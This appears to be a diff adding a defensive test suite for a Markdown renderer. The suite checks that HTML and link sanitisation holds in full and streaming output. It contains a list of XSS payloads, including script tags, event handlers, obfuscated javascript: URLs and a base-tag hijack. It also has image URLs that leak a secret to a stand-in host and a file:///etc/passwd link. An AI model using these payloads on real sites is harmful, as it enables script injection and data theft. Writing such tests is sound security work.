@@ -1,0 +1,189 @@
+// @vitest-environment happy-dom
+import { existsSync, readFileSync } from 'node:fs'
+import { cleanup, render } from '@testing-library/preact'
+import fc from 'fast-check'
+import { afterEach, describe, expect, test } from 'vitest'
+import { Markdown } from './index.ts'
+import { faults } from './testing/allowlist.ts'
+import { markdownText } from './testing/arbitrary.ts'
+
+afterEach(cleanup)
+
+const origins = ['https://docs.example.com']
+const labels = { table: 'Table', taskDone: 'Done', taskOpen: 'Open', footnote: 'Footnote' }
+
+const draw = (text: string, streaming = false) => {
+  cleanup()
+  return render(
+    <Markdown
+      text={text}
+      streaming={streaming}
+      docsUrl="https://docs.example.com/guide/"
+      imageOrigins={origins}
+      labels={labels}
+    />
+  ).container
+}
+
+const addresses = (text: string) => [...draw(text).querySelectorAll('a')].map(link => link.getAttribute('href'))
+
+/** Attempts to run something, to send something out, or to show a false address. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe src="https://evil.test">',
+  '<style>@import url(https://evil.test)</style>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<base href="https://evil.test/">',
+  '![x](https://evil.test/?d=SECRET)',
+  '![x][evil]\n\n[evil]: https://evil.test/x',
+  '[![x](https://evil.test/x)](https://evil.test/y)',
+  '![x](//evil.test/x)',
+  '![x](https://docs.example.com@evil.test/x)',
+  '![x](https://docs.example.com.evil.test/x)',
+  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '[x](javascript:alert(1))',
+  '[x](<java\tscript:alert(1)>)',
+  '[x](java&#10;script:alert(1))',
+  '[x](&#x6A;avascript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](\\\\evil.test)',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html,x)',
+  '[x](vbscript:x)',
+  '[x](blob:https://evil.test/1)',
+  '[x](file:///etc/passwd)',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n[x]',
+  '[x](https://a.test "\\" onmouseover=alert(1) \\"")',
+  '`` <img src=x onerror=alert(1)> ``',
+  '```"><script>\nalert(1)\n```',
+  '| <b onclick=x> | ![x](https://evil.test) |\n|---|---|\n| <td> | [x](javascript:1) |'
+]
+
+describe('nothing but the allowed elements, attributes and addresses comes out', () => {
+  test.each(hostile)('of %j', text => {
+    expect(faults(draw(text), origins)).toEqual([])
+    expect(faults(draw(text, true), origins)).toEqual([])
+  })
+
+  test('of any mixture of attacks and Markdown, at any point of the stream', () => {
+    const mixture = fc.array(fc.oneof(fc.constantFrom(...hostile), markdownText), { maxLength: 6 })
+    fc.assert(
+      fc.property(mixture, fc.nat({ max: 300 }), (parts, end) => {
+        const text = parts.join('')
+        expect(faults(draw(text), origins)).toEqual([])
+        expect(faults(draw(text.slice(0, end), true), origins)).toEqual([])
+      }),
+      { numRuns: 150 }
+    )
+  })
+
+  test('of any string', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), text => {
+        expect(faults(draw(text), origins)).toEqual([])
+      }),
+      { numRuns: 150 }
+    )
+  })
+
+  // These attacks lie outside the repository, and are tried where they are present.
+  const corpora = [
+    { name: 'hostile-markdown', field: 'markdown' },
+    { name: 'dompurify-expect', field: 'payload' }
+  ].map(({ name, field }) => ({ file: `../shared/corpora/${name}.json`, field }))
+
+  test.each(corpora.filter(({ file }) => existsSync(file)))('of every case in $file', ({ file, field }) => {
+    const texts: string[] = JSON.parse(readFileSync(file, 'utf8')).map((entry: Record<string, string>) => entry[field])
+    expect(texts.length).toBeGreaterThan(50)
+    const found = texts.flatMap(text => [...faults(draw(text), origins), ...faults(draw(text, true), origins)])
+    expect(found).toEqual([])
+  })
+
+  test('the search for faults finds them', () => {
+    const container = document.createElement('div')
+    for (const [name, attributes] of Object.entries({
+      script: {},
+      p: { onclick: 'x' },
+      a: { href: 'javascript:x', rel: 'noopener noreferrer' },
+      img: { src: 'https://evil.test/x', referrerpolicy: 'no-referrer' }
+    })) {
+      const element = container.appendChild(document.createElement(name))
+      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
+    }
+    expect(faults(container, origins)).toEqual([
+      '<script>',
+      '<p onclick>',
+      'href javascript:x',
+      'src https://evil.test/x'
+    ])
+  })
+})
+
+describe('a link', () => {
+  test.each([
+    'javascript:alert(1)',
+    'java&Tab;script:x',
+    'ms-word:ofe|u|https://evil.test/x',
+    'jar:https://evil.test!/x',
+    'tel:1'
+  ])('to %j is only its text', address => {
+    expect(addresses(`[x](${address})`)).toEqual([])
+    expect(draw(`[x](${address})`).textContent).toBe('x')
+  })
+
+  test('to a page of the documentation is resolved against it', () => {
+    expect(addresses('[a](x) [b](/y?z#w) [c](#d)')).toEqual([
+      'https://docs.example.com/guide/x',
+      'https://docs.example.com/y?z#w',
+      'https://docs.example.com/guide/#d'
+    ])
+  })
+
+  test('whose text names another address says where it leads', () => {
+    const text = (markdown: string) => draw(markdown).textContent
+    expect(text('[https://docs.example.com/login](https://evil.test/90)')).toBe(
+      'https://docs.example.com/login (evil.test)'
+    )
+    expect(text('[docs.exa\u200bmple.com](https://evil.test/92)')).toBe('docs.example.com (evil.test)')
+    expect(text('[www.good.test](https://evil.test)')).toBe('www.good.test (evil.test)')
+    expect(text('https://a.test/x [b.test](https://b.test) [Node.js](https://nodejs.org)')).toBe(
+      'https://a.test/x b.test Node.js'
+    )
+  })
+
+  test('keeps the joiners that scripts and emoji need, and no other hidden character', () => {
+    expect(draw('[a\u202eb\u200dc 👩\u200d💻 می\u200cخواهم](https://a.test)').textContent).toBe(
+      'abc 👩\u200d💻 می\u200cخواهم'
+    )
+  })
+
+  test('without a text shows its address', () => {
+    expect(draw('[](https://a.test/x)').textContent).toBe('https://a.test/x')
+  })
+})
+
+describe('an image', () => {
+  test('of an allowed origin is loaded late and without a referrer', () => {
+    const image = draw('![A *plan*](/images/a.png "T")').querySelector('img')
+    expect(image?.outerHTML).toBe(
+      '<img src="https://docs.example.com/images/a.png" alt="A plan" title="T" loading="lazy" decoding="async" referrerpolicy="no-referrer">'
+    )
+  })
+
+  test('of any other origin is a link with its text', () => {
+    const container = draw('![A plan](https://else.test/a.png)')
+    expect(container.querySelector('img')).toBeNull()
+    expect(container.querySelector('a')?.outerHTML).toBe(
+      '<a href="https://else.test/a.png" rel="noopener noreferrer" target="_blank">A plan</a>'
+    )
+  })
+
+  test('in a link is the link’s text', () => {
+    expect(draw('[![A plan](https://else.test/a.png)](/x)').innerHTML).toContain(
+      '<a href="https://docs.example.com/x" rel="noopener noreferrer">A plan</a>'
+    )
+  })
+})
